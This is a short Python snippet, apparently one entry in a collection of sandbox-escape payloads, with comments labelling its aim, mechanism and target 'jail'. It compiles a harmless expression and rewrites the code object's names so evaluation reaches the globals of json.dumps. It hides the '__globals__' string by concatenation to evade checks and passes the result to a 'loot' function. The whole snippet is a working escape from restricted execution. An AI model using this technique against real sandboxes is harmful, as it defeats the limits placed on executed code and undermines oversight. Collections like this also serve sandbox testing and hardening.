# aim: compile harmless text and replace the names in the code object
# mechanism: code.replace
# language: builtins
# reason: a code object can be replaced by one that no check has seen
# jail: process
# plain: loot

import json

code = compile("function.name", "name", "eval")
loot(eval(code.replace(co_names=("function", "__glo" + "bals__")), {"function": json.dumps}))
